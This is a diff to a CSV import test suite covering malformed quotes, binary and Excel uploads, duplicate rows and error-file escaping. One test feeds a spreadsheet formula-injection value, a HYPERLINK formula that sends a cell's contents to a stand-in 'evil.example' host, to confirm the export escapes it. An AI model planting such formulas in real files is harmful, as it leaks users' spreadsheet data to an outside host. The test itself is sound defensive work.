@@ -3,7 +3,7 @@ import { describe, expect, it } from "vitest";
 import { systemActor } from "@/lib/auth/actor";
 import { pool } from "@/lib/db";
 import type { ImportConfig } from "@/lib/ingest/csv/import-config";
-import { createImportJob, errorFileStream } from "@/lib/ingest/csv/import-jobs";
+import { createImportJob, errorFileStream, listRowErrors } from "@/lib/ingest/csv/import-jobs";
 import { runImport } from "@/lib/ingest/csv/run-import";
 
 const admin = systemActor("test");
@@ -92,13 +92,56 @@ describe("CSV import", () => {
     expect(await q(`SELECT count(*)::int AS n FROM profiles WHERE external_id LIKE 'big-%'`)).toEqual([{ n: rows }]);
   });
 
-  it("fails clearly on an unreadable file and on a header that does not match the mapping, keeping earlier rows", async () => {
-    const broken = await createImportJob(admin, { ...peopleConfig, fileName: "broken.csv" });
-    const result = await runImport(admin, broken.id, stream('id,email,phone,ltv,vip,notes\nok-1,a@b.co,,1,no,x\nok-2,"unclosed,,1,no,x\n'));
-    expect(result.status).toBe("failed");
-    expect(result.error).toMatch(/could not be read past line \d+: .*quote/i);
+  it("fails clearly on a header that does not match the mapping, and refuses a second upload", async () => {
     const mismatch = await createImportJob(admin, { ...peopleConfig, fileName: "other.csv" });
     expect((await runImport(admin, mismatch.id, stream("a,b\n1,2\n"))).error).toContain("header has 2 columns but the mapping has 6");
     await expect(runImport(admin, mismatch.id, stream("a,b\n"))).rejects.toThrow("already been started");
+  });
+
+  it("an unclosed quote on line 6 refuses only that row: the rows after it import, and the error file names the line", async () => {
+    const config: ImportConfig = { kind: "people", fileName: "quote.csv", delimiter: ",", columns: [{ to: "external_id" }, { to: "email" }] };
+    const csv = ["id,email", "q1,q1@example.com", "q2,q2@example.com", "q3,q3@example.com", "q4,q4@example.com", 'q5,"q5@example.com', "q6,q6@example.com", "q7,q7@example.com", "q8,q8@example.com"].join("\n");
+    const job = await createImportJob(admin, config);
+    const done = await runImport(admin, job.id, stream(csv));
+    expect(done).toMatchObject({ status: "succeeded", error: null, rowsTotal: 8, rowsImported: 7, rowsFailed: 1 });
+    expect((await q(`SELECT external_id FROM profiles WHERE external_id LIKE 'q%' ORDER BY 1`)).map((r) => r.external_id)).toEqual(["q1", "q2", "q3", "q4", "q6", "q7", "q8"]);
+    const file = await readAll(errorFileStream(job.id));
+    expect(file).toContain("5,6,,,error,this line cannot be read: a quote opened on this line is never closed; the row was skipped");
+    expect(await listRowErrors(job.id)).toEqual([{ row: 5, line: 6, column: null, value: null, severity: "error", message: expect.stringContaining("never closed") }]);
+  });
+
+  it("refuses a binary file (or a spreadsheet) up front and imports nothing", async () => {
+    const config: ImportConfig = { kind: "people", fileName: "random.bin", delimiter: ",", columns: [{ to: "external_id" }] };
+    // Seeded bytes: deterministic "random" data, the kind of file a user picks by mistake.
+    let x = 42;
+    const bytes = Buffer.from(Array.from({ length: 4096 }, () => ((x = (x * 1103515245 + 12345) % 2 ** 31), x & 0xff)));
+    const job = await createImportJob(admin, config);
+    const done = await runImport(admin, job.id, Readable.toWeb(Readable.from([bytes])) as ReadableStream<Uint8Array>);
+    expect(done).toMatchObject({ status: "failed", rowsTotal: 0, rowsImported: 0 });
+    expect(done.error).toMatch(/not text|not UTF-8/);
+    const xlsx = await createImportJob(admin, { ...config, fileName: "people.xlsx" });
+    const zip = Buffer.concat([Buffer.from([0x50, 0x4b, 0x03, 0x04]), Buffer.from("id\nx\n")]);
+    expect((await runImport(admin, xlsx.id, Readable.toWeb(Readable.from([zip])) as ReadableStream<Uint8Array>)).error).toContain("Excel workbook");
+  });
+
+  it("reports a person repeated in the same file instead of silently overwriting the earlier row", async () => {
+    const config: ImportConfig = { kind: "people", fileName: "dupes.csv", delimiter: ",", columns: [{ to: "external_id" }, { to: "email" }, { to: "attribute", name: "plan", type: "text" }] };
+    const csv = "id,email,plan\nd1,d1@example.com,gold\nd2,d2@example.com,silver\nd1,other@example.com,free\n,D2@example.com,x\n,solo@example.com,a\n,Solo@Example.com,b\n";
+    const job = await createImportJob(admin, config);
+    expect(await runImport(admin, job.id, stream(csv))).toMatchObject({ status: "succeeded", rowsTotal: 6, rowsImported: 4, rowsFailed: 2 });
+    expect((await q(`SELECT attributes FROM profiles WHERE external_id = 'd1'`))[0].attributes).toEqual({ plan: "gold" });
+    const file = await readAll(errorFileStream(job.id));
+    expect(file).toContain("3,4,id,d1,error,duplicate: the same external id is already on line 2; only the first row is imported");
+    expect(file).toContain("6,7,email,Solo@Example.com,error,duplicate: the same email is already on line 6");
+  });
+
+  it("escapes error-file cells that a spreadsheet would run as a formula", async () => {
+    const config: ImportConfig = { kind: "people", fileName: "formula.csv", delimiter: ",", columns: [{ to: "external_id" }, { to: "attribute", name: "ltv", type: "number" }] };
+    const csv = 'id,ltv\nf1,=HYPERLINK("http://evil.example/?"&A1)\nf2,+1+2\nf3,-2+3\nf4,@SUM(A1)\nf5,5\n';
+    const job = await createImportJob(admin, config);
+    await runImport(admin, job.id, stream(csv));
+    const lines = (await readAll(errorFileStream(job.id))).trim().split("\n").slice(1);
+    expect(lines.map((l) => l.split(",")[3])).toEqual([`"'=HYPERLINK(""http://evil.example/?""&A1)"`, "'+1+2", "'-2+3", "'@SUM(A1)"]);
+    for (const l of lines) expect(l).not.toMatch(/,[=+\-@]/);
   });
 });
